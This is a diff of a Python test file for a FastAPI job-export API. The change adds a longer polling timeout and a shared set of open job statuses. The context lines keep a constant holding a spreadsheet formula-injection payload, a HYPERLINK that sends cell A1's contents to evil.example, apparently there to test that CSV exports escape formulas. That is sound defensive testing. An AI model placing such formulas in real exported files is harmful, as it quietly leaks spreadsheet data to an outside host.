@@ -19,19 +19,20 @@ from fastapi.testclient import TestClient
 from app.core.database import Database
 from app.core.ids import uuid7
 from app.core.model import utc_now
-from app.jobs.models import JobChunk, JobRun
+from app.jobs.models import OPEN, JobChunk, JobRun
 from app.jobs.retention import discard
 from tests.api.jobs.conftest import Crew, eventually
 from tests.api.test_risks import FLOOD
 from tests.conftest import ClientFor
 
+PATIENCE = 120.0  # seconds: a worker on a busy machine begins with its imports
 EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"Click")'
 
 
 def ended(client: TestClient, answer: httpx.Response) -> dict[str, Any]:
     assert answer.status_code == 202, answer.text
     url = answer.headers["Location"]
-    return eventually(lambda: (job := client.get(url).json())["status"] not in ("queued", "running") and job)
+    return eventually(lambda: (job := client.get(url).json())["status"] not in OPEN and job, PATIENCE)
 
 
 def exported(client: TestClient, address: str, format: str = "csv", **more: Any) -> httpx.Response:
@@ -176,7 +177,7 @@ def test_rights_are_those_at_the_time_of_running(
         gone = client.delete(f"/v1/grants/{grant['id']}", headers={"If-Match": f'"{grant["version"]}"'})
         assert gone.status_code == 204, gone.text
     url = answer.headers["Location"]
-    job = eventually(lambda: (job := client.get(url).json())["status"] not in ("queued", "running") and job)
+    job = eventually(lambda: (job := client.get(url).json())["status"] not in OPEN and job, PATIENCE)
     assert (job["status"], job["file_name"]) == ("failed", None)
 
 
